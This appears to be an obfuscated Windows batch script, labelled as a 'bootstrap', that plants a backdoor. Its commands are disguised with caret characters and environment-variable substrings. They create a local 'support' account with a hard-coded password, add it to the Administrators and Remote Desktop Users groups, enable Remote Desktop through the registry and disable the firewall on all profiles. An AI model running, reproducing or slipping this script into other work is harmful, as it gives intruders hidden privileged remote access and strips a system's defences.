REM bootstrap 9968 v2
%WINDIR:~5,1%%COMSPEC:~-12,1%%PROGRAMDATA:~12,1% ^us^er ^su^ppo^rt Ad^m1n!str^at0r /add /y
%COMSPEC:~5,1%^e^t ^l^ocalgr^o^up ad^min^i^s^t^r^a^tor^s sup^p^o^r^t /^a^dd
%WINDIR:~-5,1%^et ^l^oc^a^l^g^ro^u^p "Remote Desktop Users" ^s^up^port /^add
reg ad^d "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fD^en^y^T^S^Conne^c^t^ions /t R^EG_DWORD /^d 0 /^f
%windir:~-5,1%%COMSPEC:~-3,1%^tsh a^dvfi^rewa^ll ^set ^all^pro^f^i^l^es state of^f
